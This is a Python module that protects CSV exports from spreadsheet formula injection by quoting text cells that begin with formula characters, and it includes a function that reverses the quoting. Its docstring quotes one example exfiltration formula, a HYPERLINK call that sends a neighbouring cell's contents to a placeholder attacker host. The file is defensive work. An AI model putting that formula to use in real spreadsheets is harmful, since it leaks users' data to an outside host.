"""CSV cells a spreadsheet shows as text: no cell judgedesk writes runs as a formula.

verdicts.csv carries text from the data (item ids, model names, categories, human labels) and from models (raw
outputs, reasons). Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula, and some first strip a leading tab or carriage return: `=HYPERLINK("http://evil.example/?x="&A1,"x")`
sends the cell beside it away on a click. OWASP's advice is followed: such a text gets a leading single quote,
which every spreadsheet shows as text.

A text that already starts with a quote gets one more, so the rule undoes exactly: `restore_csv_cell` drops one
leading quote, and a script reading the CSV gets back the original text of every cell.

Only text is neutralised. Numbers judgedesk computes (positions, scores, probabilities, token counts) are written
as numbers, so a score of -0.5 stays a number a spreadsheet can add up, while an item id "-1" (text from the data)
is written '-1.
"""

from __future__ import annotations

from typing import Any

__all__ = ["restore_csv_cell", "spreadsheet_safe", "starts_like_formula"]

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet would run `text` as a formula if it were typed (or imported from a CSV) into a cell."""
    return text.startswith(_FORMULA_STARTS)


def spreadsheet_safe(value: Any) -> Any:
    """`value` as a CSV cell: a text that a spreadsheet would run (or one starting with a quote) behind a quote;
    anything else, numbers included, unchanged."""
    if isinstance(value, str) and (starts_like_formula(value) or value.startswith(_QUOTE)):
        return _QUOTE + value
    return value


def restore_csv_cell(text: str) -> str:
    """The original text of a cell read back from a CSV judgedesk wrote (the inverse of `spreadsheet_safe`)."""
    return text[1:] if text.startswith(_QUOTE) else text
